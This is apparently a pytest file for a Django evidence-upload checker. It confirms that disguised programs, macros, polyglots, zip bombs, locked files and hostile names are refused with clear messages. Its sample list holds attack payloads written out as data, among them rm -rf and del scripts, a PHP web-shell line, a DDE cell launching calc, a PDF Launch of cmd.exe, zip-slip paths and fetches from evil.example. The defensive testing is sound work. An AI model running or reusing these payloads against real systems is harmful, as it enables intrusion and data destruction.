"""What must not come in is refused, each time with a sentence that says what is wrong and what to do."""

import io
import zipfile

import pytest
from django.urls import reverse

from actions.evidence import checking, naming
from actions.evidence.wrong import Refused
from actions.models import Evidence
from scr_tracker.models import AuditEvent

from .files import (
    EICAR,
    changed,
    excel,
    hidden_in_pdf,
    message,
    ole,
    open_document,
    outlook,
    packed,
    pdf,
    picture,
    png_of,
    powerpoint,
    upload,
    with_named_parts,
    word,
)

pytestmark = pytest.mark.django_db

OLE_PACKAGE = ole("\x01Ole10Native")
RELATIONS = "word/_rels/settings.xml.rels"


def relation(kind, target):
    """Return the part of a Word document that says what it fetches."""
    return f'<Relationships><Relationship Target="{target}" Type="x/{kind}" TargetMode="External"/></Relationships>'


def locked():
    """Return a zip file whose parts say that they are locked with a password."""
    content = bytearray(word())
    content[6] |= 1
    content[content.find(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def with_two_of_a_name():
    """Return a Word document with two parts of the same name."""
    with pytest.warns(UserWarning, match="Duplicate name"):
        return with_named_parts(word(), {"word/document.xml": "<w:document/>"})


def many_parts():
    return packed({f"{number}.xml": "" for number in range(checking.packages.MOST_PARTS + 1)}, zipfile.ZIP_STORED)


#: (name, content, what the sentence says)
HOSTILE = [
    # Nothing, too much, not all of it
    ("empty.pdf", b"", "is empty (0 bytes)"),
    ("one-byte-too-large.pdf", lambda: bytes(1024 * 1024 + 1), "is larger than 1 MB"),
    ("broken-off.pdf", pdf()[:200], "is a PDF that breaks off"),
    ("broken-off.docx", lambda: word()[:5000], "is a document or packed folder that breaks off"),
    ("broken-off.png", lambda: picture()[:60], "is a picture that breaks off"),
    ("broken-off.jpg", lambda: picture("JPEG", size=(600, 600))[:2000], "is a picture that breaks off"),
    ("broken-off.msg", outlook(_37010102=b"minutes")[:700], "is damaged or incomplete"),
    (
        "flipped.docx",
        lambda: word().replace(b"PK\x03\x04", b"PK\x03\x05").replace(b"PK\x03\x05", b"PK\x03\x04", 1),
        "damaged",
    ),
    # Programs
    ("minutes.pdf", b"MZ\x90\x00" + bytes(200), "is a program for Windows"),
    ("minutes.docx", b"\x7fELF\x02" + bytes(200), "is a program for Linux"),
    ("minutes.txt", b"\xcf\xfa\xed\xfe" + bytes(99), "is a program for the Mac"),
    ("letter.pdf", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(99), "is a Java or Mac program"),
    ("page.pdf", b"\0asm\1\0\0\0", "is a program for web pages"),
    ("minutes.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(99), "is a Windows shortcut"),
    ("help.chm", b"ITSF\x03\0\0\0" + bytes(99), "is a Windows help file"),
    ("start.txt", b"#!/bin/sh\nrm -rf ~\n", "is a script"),
    ("start.csv", b"@echo off\ndel *.*\n", "is a script for Windows"),
    ("notes.txt", b"Windows Registry Editor Version 5.00\n", "changes the settings of Windows"),
    ("start.ps1", b"Invoke-WebRequest http://evil.example\n", "is a program or a web page (.ps1)"),
    ("start.desktop", b"[Desktop Entry]\nExec=sh\n", "is a shortcut that starts a program"),
    ("place.url", b"[InternetShortcut]\nURL=http://evil.example\n", "is a shortcut to a web page"),
    ("letter.ps", b"%!PS-Adobe-3.0\n", "is a PostScript file"),
    # Web pages and scripts under other names
    ("minutes-of-may.pdf", b"<!DOCTYPE html><html><script>alert(1)</script>", "is a web page, whatever its name says"),
    ("late.txt", b"Minutes\n" * 3000 + b"<iframe src=//evil.example>", "is a web page, whatever its name says"),
    ("utf16.txt", "\ufeff<html><body>".encode("utf-16-le"), "is a web page, whatever its name says"),
    ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "is an SVG picture"),
    ("logo.svg", b"<?xml version='1.0'?><svg><script>1</script></svg>", "is an SVG picture"),
    ("list.csv", b"a,b\n1,<?php system($_GET['c']) ?>\n", "holds a script"),
    ("data.xml", b"<?xml version='1.0'?><plan/>", "is an XML file"),
    ("page.mht", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n", "is a saved web page"),
    # Two kinds of file at once
    ("both.pdf", lambda: pdf(after=word()), "something else after its end"),
    ("zip-in-pdf.pdf", lambda: pdf(after=packed({"a": "b"}) + b"\n%%EOF\n"), "is a PDF and a packed folder"),
    ("gif.pdf", b"GIF89a/*" + pdf() + b"*/", "is a GIF picture"),
    ("late-start.pdf", b"\n\x00\x01junk\n" + pdf(), "is a PDF with something else before"),
    ("html.pdf", pdf(objects=b"%<html><script>alert(1)</script>\n"), "is a PDF and a web page"),
    ("zip.png", lambda: picture() + packed({"a.exe": "b"}), "is a picture and a packed folder"),
    ("text.png", lambda: picture() + b"and more", "is a picture with something else after its end"),
    ("script.jpg", lambda: picture("JPEG", comment=b"<script>alert(1)</script>"), "is a picture with a script"),
    ("pdf.jpg", lambda: picture("JPEG", comment=pdf()), "is a picture and a PDF"),
    ("before.docx", lambda: b"PK\x03\x04junk" + word(), "has something before its beginning or after its end"),
    (
        "pdf.docx",
        lambda: packed([("a.pdf", pdf()), *unpacked(word())], zipfile.ZIP_STORED),
        "is a packed document and a PDF",
    ),
    # Macros
    ("plain.docx", lambda: with_named_parts(word(), {"word/vbaProject.bin": "x"}), "holds macros, whatever its name"),
    (
        "renamed.xlsx",
        lambda: changed(
            excel(), "[Content_Types].xml", b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
        ),
        "is a document with macros",
    ),
    ("old.xlsx", lambda: with_named_parts(excel(), {"xl/macrosheets/sheet1.xml": "x"}), "holds macros of old Excel"),
    (
        "plain.odt",
        lambda: with_named_parts(open_document(), {"Basic/Standard/a.xml": "x"}),
        "holds macros of LibreOffice",
    ),
    ("x.pptx", lambda: with_named_parts(powerpoint(), {"ppt/activeX/activeX1.bin": "x"}), "holds controls that run"),
    ("in.docx", lambda: with_named_parts(word(), {"word/embeddings/a.xlsm": "x"}), "has a document with macros inside"),
    (
        "in-old.docx",
        lambda: with_named_parts(word(), {"word/embeddings/a.bin": ole("_VBA_PROJECT")}),
        "has a document with macros inside",
    ),
    (
        "binary.xlsb",
        lambda: packed({"[Content_Types].xml": "ms-excel.sheet.binary.main"}),
        "is a binary Excel workbook",
    ),
    # What acts by itself
    (
        "acts.pdf",
        pdf(objects=b"9 0 obj\n<</S /JavaScript /JS (app.alert(1))>>\nendobj\n"),
        "holds a program (JavaScript)",
    ),
    ("hides.pdf", hidden_in_pdf(b"<</S /J#61vaScript /JS (1)>>"), "holds a program (JavaScript)"),
    (
        "starts.pdf",
        pdf(objects=b"9 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj\n"),
        "starts a program when it is opened:",
    ),
    ("holds.pdf", pdf(objects=b"9 0 obj\n<</Type /EmbeddedFile>>\nendobj\n"), "has other files packed inside"),
    ("film.pdf", pdf(objects=b"9 0 obj\n<</Subtype /RichMedia>>\nendobj\n"), "holds a film, a sound"),
    ("form.pdf", pdf(objects=b"9 0 obj\n<</XFA 8 0 R>>\nendobj\n"), "is a form that is filled in by a program"),
    ("dde.csv", b"a,b\n=cmd|' /C calc'!A0,1\n", "has a cell that starts a program"),
    ("dde.docx", lambda: with_named_parts(word(), {"word/f.xml": "<w:instrText>DDEAUTO c</w:instrText>"}), "(DDE)"),
    (
        "template.docx",
        lambda: with_named_parts(word(), {RELATIONS: relation("attachedTemplate", "https://evil.example/a.dotm")}),
        "fetches something from the web",
    ),
    ("exe.docx", lambda: with_named_parts(word(), {"word/media/run.exe": "x"}), "has a program inside it"),
    (
        "exe.pptx",
        lambda: with_named_parts(powerpoint(), {"ppt/media/a.png": b"MZ\0" + bytes(99)}),
        "has a program inside it",
    ),
    (
        "ole.docx",
        lambda: with_named_parts(word(), {"word/embeddings/o.bin": OLE_PACKAGE}),
        "has another file packed inside",
    ),
    ("svg.docx", lambda: with_named_parts(word(), {"word/media/a.svg": "<svg><script>1"}), "with a script inside it"),
    # Bombs and traps for whoever unpacks
    ("bomb.docx", lambda: with_named_parts(word(), {"word/a.xml": bytes(60_000_000)}), "unpacks to far more"),
    (
        "laughs.xlsx",
        lambda: with_named_parts(excel(), {"xl/a.xml": "<!DOCTYPE x [<!ENTITY a 'ha'>]>"}),
        "words of its own",
    ),
    ("points.png", png_of(90_000, 90_000), "is a picture of so many points"),
    ("parts.docx", many_parts, "holds more parts than any document"),
    ("slip.docx", lambda: with_named_parts(word(), {"../../etc/cron.d/x": "x"}), "would write outside its folder"),
    ("slip.odt", lambda: with_named_parts(open_document(), {"C:\\Windows\\x": "x"}), "would write outside its folder"),
    ("twice.docx", with_two_of_a_name, "has two parts of the same name"),
    # Locked
    ("locked.pdf", pdf(trailer=b"/Encrypt 9 0 R"), "is a PDF locked with a password"),
    (
        "locked.xlsx",
        ole("EncryptedPackage", "EncryptionInfo"),
        "is locked with a password, so that it cannot be checked or read",
    ),
    ("locked.docx", locked, "is locked with a password, so that it cannot be checked: save a copy without it and"),
    ("locked.odt", open_document(manifest="<manifest:encryption-data/>"), "is locked with a password"),
    # Attachments
    ("program.eml", message(b"MZ\0\0", "letter.pdf"), "is an e-mail with a program attached:"),
    ("script.eml", message(b"x", "invoice.js"), "is an e-mail with a program attached (invoice.js)"),
    ("macros.eml", message(b"x", "plan.docm"), "is an e-mail with a document with macros attached (plan.docm)"),
    (
        "hidden.eml",
        lambda: message(packed({"word/vbaProject.bin": "x"}), "plan.docx"),
        "is an e-mail with an attachment that holds macros",
    ),
    ("program.msg", outlook(_3707001F="virus.exe".encode("utf-16-le")), "with a program attached (virus.exe)"),
    ("hidden.msg", outlook(_37010102=b"MZ\0\0"), "is an e-mail with a program attached:"),
    ("none.eml", b"No message at all.", "is no e-mail"),
    # What is not taken, though it does no harm
    ("old.doc", ole("WordDocument"), "is in the format of Word before 2007"),
    ("old.xls", ole("Workbook"), "is in the format of Excel before 2007"),
    ("old.ppt", ole("PowerPoint Document"), "is in the format of PowerPoint before 2007"),
    ("drawing.vsd", ole("VisioDocument"), "is a Visio drawing"),
    ("setup.msi", ole("Property"), "is an old Microsoft file"),
    ("files.zip", lambda: packed({"a.txt": "b"}), "is a packed folder (.zip)"),
    ("nothing.zip", lambda: packed({}), "is an empty packed folder"),
    ("files.rar", b"Rar!\x1a\x07\x00", "is a packed folder (.rar)"),
    ("files.7z", b"7z\xbc\xaf\x27\x1c\0\4", "is a packed folder (.7z)"),
    ("files.gz", b"\x1f\x8b\x08\0", "is a packed file (.gz)"),
    ("letter.rtf", b"{\\rtf1 hello}", "is a Rich Text document"),
    ("phone.heic", b"\0\0\0\x18ftypheic", "is a HEIC picture"),
    ("film.mp4", b"\0\0\0\x18ftypisom", "is a film or recording"),
    ("sound.mp3", b"ID3\x03\0\0\0", "is a sound recording"),
    ("scan.tif", b"II*\0\x08\0\0\0", "is a TIFF picture"),
    ("note.one", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + bytes(99), "is a OneNote section"),
    ("database.db", b"SQLite format 3\0", "is a database"),
    ("mailbox.pst", b"!BDN\0\0\0\0", "is an Outlook mailbox"),
    ("words.docx", b"Plain words under a false name.", "is plain text, though its name ends in .docx"),
    ("noise.bin", bytes(range(256)) * 20, "is of a kind that is not taken"),
]


def unpacked(content):
    """Return [(name, content)] of the parts of a packed document."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return [(each.filename, package.read(each)) for each in package.infolist()]


def bytes_of(content):
    return content() if callable(content) else content


def sentence_for(name, content):
    """Return the sentence with which a file is refused."""
    file = upload(name, bytes_of(content))
    with pytest.raises(Refused) as refused:
        checking.check(file, name=name, size=file.size)
    return str(refused.value)


@pytest.fixture(autouse=True)
def _at_most_one_megabyte(settings):
    """Make files that are too large small enough for a quick test; EVIDENCE_MAX_MB does so in service."""
    settings.EVIDENCE_MAX_MB, settings.EVIDENCE_MAX_BYTES = 1, 1024 * 1024


@pytest.mark.parametrize(("name", "content", "sentence"), HOSTILE, ids=[f"{row[0]}: {row[2][:30]}" for row in HOSTILE])
def test_is_refused_with_a_sentence_and_leaves_nothing_behind(
    client, action, manager, stored_files, name, content, sentence
):
    client.force_login(manager)
    about = {"source": "files", "kind": "audit", "what_it_shows": "That it was done.", "strength": "audited"}
    address = reverse("add-evidence", args=[action.pk])
    response = client.post(address, {**about, "files": [upload(name, bytes_of(content))]})
    assert response.status_code == 200
    (said,) = response.context["form"].errors["files"]
    assert said.startswith(f"“{name}” ")
    assert sentence in said
    assert said.endswith(".")
    assert not Evidence.objects.exists()
    assert not stored_files()


def test_there_are_many_and_their_sentences_say_different_things():
    sentences = {sentence_for(name, content).partition("” ")[2] for name, content, _ in HOSTILE}
    assert len(HOSTILE) >= 40
    assert len(sentences) >= 70


def test_a_file_of_exactly_the_largest_size_comes_in(settings):
    content = b"x" * settings.EVIDENCE_MAX_BYTES
    assert checking.check(upload("a.txt", content), name="a.txt", size=len(content)).size == len(content)


def test_a_virus_is_refused_by_a_real_scanner_and_the_audit_log_says_so(client, action, manager, clamd, stored_files):
    client.force_login(manager)
    about = {"source": "files", "kind": "audit", "what_it_shows": "That it was done.", "strength": "audited"}
    files = [upload("a.txt", EICAR), upload("b.docx", with_named_parts(word(), {"word/a.txt": EICAR}))]
    response = client.post(reverse("add-evidence", args=[action.pk]), {**about, "files": files})
    for name, said in zip(("a.txt", "b.docx"), response.context["form"].errors["files"], strict=True):
        assert said.startswith(f"“{name}” holds a virus (Tests.Eicar")
    assert not Evidence.objects.exists()
    assert not stored_files()
    events = AuditEvent.objects.filter(kind=AuditEvent.Kind.VIRUS_FOUND, by=manager)
    assert [event.detail["found"] for event in events] == ["Tests.Eicar.UNOFFICIAL"] * 2


class TestNames:
    """Names do no harm: what is shown has nothing invisible, what is saved has its true ending."""

    @pytest.mark.parametrize(
        ("name", "shown", "saved"),
        [
            ("Minutes of May.pdf", "Minutes of May.pdf", "Minutes of May.pdf"),
            ("Dziecięca Łódź – 子ども.pdf", "Dziecięca Łódź – 子ども.pdf", "Dziecięca Łódź – 子ども.pdf"),
            ("../../etc/passwd.pdf", "passwd.pdf", "passwd.pdf"),
            ("C:\\Users\\me\\plan.pdf", "plan.pdf", "plan.pdf"),
            ("invoice\u202efdp.exe", "invoicefdp.exe", "invoicefdp.pdf"),
            ("a\x00b\r\nSet-Cookie: x.pdf", "abSet-Cookie: x.pdf", "abSet-Cookie- x.pdf"),
            ("e\u0301te\u0301.pdf", "été.pdf", "été.pdf"),
            ("virus.pdf.exe", "virus.pdf.exe", "virus.pdf.pdf"),
            ("CON.pdf", "CON.pdf", "file-CON.pdf"),
            ("...", "...", "file.pdf"),
            ("", "file", "file.pdf"),
            ('a<b>"c|d?*.pdf', 'a<b>"c|d?*.pdf', "a-b--c-d.pdf"),
            ("x" * 300 + ".pdf", "x" * 251 + ".pdf", "x" * 196 + ".pdf"),
            ("子" * 300 + ".pdf", "子" * 251 + ".pdf", "子" * 65 + ".pdf"),
        ],
    )
    def test_are_made_safe(self, name, shown, saved):
        assert naming.shown(name) == shown
        assert naming.saved(naming.shown(name), ".pdf") == saved
        assert len(naming.saved(name, ".pdf").encode()) <= 255

    def test_a_pdf_named_as_a_program_is_saved_as_a_pdf(self, client, action, manager):
        client.force_login(manager)
        about = {"source": "files", "kind": "audit", "what_it_shows": "That it was done.", "strength": "audited"}
        client.post(reverse("add-evidence", args=[action.pk]), {**about, "files": [upload("setup.exe", pdf())]})
        evidence = Evidence.objects.get()
        assert evidence.file_name == "setup.exe"
        response = client.get(reverse("download-evidence", args=[evidence.pk]))
        assert response["Content-Disposition"] == 'attachment; filename="setup.pdf"'
        assert response["Content-Type"] == "application/pdf"
        assert b"".join(response.streaming_content) == pdf()


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("a.pdf", pdf, "PDF"),
        ("a.docx", word, "Word document"),
        ("a.xlsx", excel, "Excel workbook"),
        ("a.pptx", powerpoint, "PowerPoint presentation"),
        ("a.odt", open_document, "OpenDocument text"),
        ("a.ods", lambda: open_document("spreadsheet"), "OpenDocument spreadsheet"),
        ("a.odp", lambda: open_document("presentation"), "OpenDocument presentation"),
        ("a.png", picture, "PNG picture"),
        ("a.jpeg", lambda: picture("JPEG"), "JPEG picture"),
        ("telephone.jpg", lambda: picture("JPEG") + picture("JPEG") + b"trailer", "JPEG picture"),
        ("a.txt", lambda: "Große Żaba – 5 < 6 and MZ".encode(), "Text file"),
        ("bm.txt", lambda: b"BM met with the family.", "Text file"),
        ("a.csv", lambda: "Agency,Trained\r\nŁódź,40\r\n".encode("utf-16"), "CSV file"),
        ("old.csv", lambda: "Café,£5\r\n-1,+2\r\n".encode("cp1252"), "CSV file"),
        ("a.eml", lambda: message(pdf()), "E-mail"),
        ("a.msg", lambda: outlook(_3707001F="letter.pdf".encode("utf-16-le"), _37010102=pdf()), "Outlook e-mail"),
        ("wrong-name.pdf", word, "Word document"),
        (
            "own-template.docx",
            lambda: with_named_parts(word(), {RELATIONS: relation("attachedTemplate", "file:///N:/letter.dotx")}),
            "Word document",
        ),
        (
            "link.docx",
            lambda: with_named_parts(word(), {RELATIONS: relation("hyperlink", "https://example.org")}),
            "Word document",
        ),
    ],
)
def test_honest_files_come_in(name, content, kind):
    file = upload(name, content())
    assert checking.check(file, name=name, size=file.size).type.name == kind
